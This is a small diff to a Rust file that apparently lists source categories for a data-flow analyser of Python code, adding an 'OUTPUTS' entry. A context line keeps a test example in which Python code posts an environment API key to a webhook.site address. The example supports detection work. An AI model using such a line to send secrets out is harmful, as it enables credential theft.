@@ -71,6 +71,11 @@ pub(super) const LISTS: &[(&str, &str, How)] = &[
     ),
     (
         "python/model/origin/source.rs",
+        "OUTPUTS",
+        Not("methods of what programs print; the tests of flows read each of them"),
+    ),
+    (
+        "python/model/origin/source.rs",
         "ENVIRONMENT",
         Found(
             "import requests\n\nrequests.post('https://webhook.site/x', data=CALL['SHOP_API_KEY'])\nrequests.post('https://webhook.site/x', data=CALL('SHOP_API_KEY'))\n",
